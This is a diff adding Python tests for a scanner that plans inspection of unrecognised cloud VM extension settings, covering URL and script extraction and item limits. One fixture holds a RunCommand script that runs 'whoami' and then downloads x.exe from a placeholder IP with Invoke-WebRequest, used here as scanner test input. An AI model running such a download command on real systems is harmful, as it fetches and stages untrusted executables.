@@ -1,0 +1,41 @@
+"""Any other publisher/type: unrecognised, still scanned."""
+
+from __future__ import annotations
+
+from inspector.extensions import ExtensionKind, UrlRole
+
+from tests.extensions.samples import plan
+
+
+def test_unknown_extension_strings_that_look_like_commands_and_urls_are_planned():
+    p = plan({
+        "publisher": "Contoso.Tools", "type": "AgentInstaller", "typeHandlerVersion": "1.0",
+        "settings": {"installer": "https://downloads.contoso.example/agent.msi", "tier": "gold",
+                     "postInstall": "msiexec /i agent.msi /qn", "steps": ["apt-get update", "echo done"]},
+        "protectedSettings": {"apiKey": "k-123", "bootstrapCommand": "Register-Agent -Force"},
+    })
+    assert p.kind is ExtensionKind.UNRECOGNISED and not p.recognised
+    assert (p.publisher, p.type) == ("Contoso.Tools", "AgentInstaller")
+    assert [(u.origin, u.role) for u in p.urls] == [("settings.installer", UrlRole.PAYLOAD)]
+    origins = sorted(s.origin for s in p.scripts)
+    assert origins == ["protectedSettings.bootstrapCommand", "settings.postInstall", "settings.steps[0]", "settings.steps[1]"]
+    assert all(b"gold" != s.content for s in p.scripts)
+
+
+def test_unknown_extension_with_a_script_array_is_one_script():
+    p = plan({"publisher": "Microsoft.CPlat.Core", "type": "RunCommandWindows",
+              "settings": {"script": ["whoami", "Invoke-WebRequest http://203.0.113.1/x -OutFile x.exe"]}})
+    [script] = p.scripts
+    assert script.line_origins == ["settings.script[0]", "settings.script[1]"]
+
+
+def test_unknown_extension_with_nothing_to_scan():
+    p = plan({"publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorLinuxAgent", "settings": {"authentication": {"managedIdentity": {"identifier-name": "mi_res_id"}}}})
+    assert p.kind is ExtensionKind.UNRECOGNISED and p.scripts == [] and p.urls == [] and p.problems == []
+
+
+def test_plan_items_are_bounded():
+    settings = {f"u{i}": f"https://h{i}.example.org/p" for i in range(300)}
+    p = plan({"publisher": "X", "type": "Y", "settings": settings})
+    assert len(p.urls) == 256
+    assert [q.kind for q in p.problems] == ["too_many_items"]
